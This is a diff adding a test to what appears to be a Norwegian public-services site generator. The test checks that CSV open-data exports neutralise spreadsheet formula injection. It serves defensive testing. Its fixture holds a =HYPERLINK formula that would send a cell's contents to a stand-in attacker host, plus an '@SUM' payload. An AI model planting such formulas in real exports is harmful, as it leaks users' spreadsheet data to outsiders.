@@ -112,6 +112,34 @@ def test_csv_tables_hold_the_same_rows(demo_site):
     assert len(schedules) == sum(len(opendata.rows_of(s)) for s in data["services"])
 
 
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text_and_the_json_is_unchanged(tree, tmp_path):
+    """OWASP's CSV injection: a title like =HYPERLINK(…) must open as text, not as a live formula."""
+    from hub.pipeline.steps import build
+
+    tree.write("districts/nordby/services/lenke.md", """---
+        title: =HYPERLINK("https://angriper.example/?"&A1;"Klikk her")
+        category: helse
+        summary: "@SUM(1+1)"
+        contact: {phone: "+47 32 04 00 00"}
+        ---
+        Tekst.
+        """)
+    tree.write("districts/nordby/district.yaml", (tree.root / "districts/nordby/district.yaml").read_text("utf-8")
+               .replace("  address: Storgata 1, 3000 Nordby\n", "  address: Storgata 1, 3000 Nordby\n"
+                        "  coordinates: {lat: 70.98, lon: -8.5}\n"))
+    build(tree.root, tmp_path / "site", search=False)
+    services = list(csv.DictReader(io.StringIO((tmp_path / "site/apne-data/services.csv").read_text("utf-8"))))
+    row = next(r for r in services if "HYPERLINK" in r["name"])
+    assert row["name"] == "'=HYPERLINK(\"https://angriper.example/?\"&A1;\"Klikk her\")"
+    assert row["description"] == "'@SUM(1+1)" and row["phone"] == "'+47 32 04 00 00"
+    assert all(not cell.startswith(opendata.FORMULA_START) for r in services for cell in r.values() if cell)
+    locations = list(csv.DictReader(io.StringIO((tmp_path / "site/apne-data/locations.csv").read_text("utf-8"))))
+    assert "-8.5" in {r["longitude"] for r in locations}  # a number the export computed stays a number
+    data = json.loads((tmp_path / "site/apne-data/hsds.json").read_text("utf-8"))
+    service = next(s for s in data["services"] if "HYPERLINK" in s["name"])
+    assert service["name"].startswith("=HYPERLINK") and service["phones"][0]["number"] == "+47 32 04 00 00"
+
+
 # --- CPSV-AP-NO: the catalogue data.norge.no harvests --------------------------------------
 
 CPSV_AP_NO = ROOT / "tests/reference/cpsv-ap-no"
